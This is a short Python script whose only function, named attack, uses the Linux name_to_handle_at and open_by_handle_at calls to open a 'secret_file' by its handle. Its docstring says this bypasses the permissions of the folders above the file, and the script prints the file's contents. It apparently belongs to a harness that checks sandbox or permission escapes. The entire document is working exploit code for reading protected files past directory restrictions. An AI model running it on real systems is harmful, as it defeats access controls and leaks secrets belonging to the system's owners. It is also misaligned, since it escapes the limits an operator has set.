"""Opens a file by its file system handle, which bypasses the permissions of the folders above it."""

import ctypes
import os


def attack(facts: dict[str, str]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_uint32 * 34)(128)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, facts["secret_file"].encode(), handle, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), "no handle")
    near = os.open(facts["folder"], os.O_RDONLY)
    descriptor = libc.open_by_handle_at(near, handle, os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "not opened")
    print(os.read(descriptor, 1000))
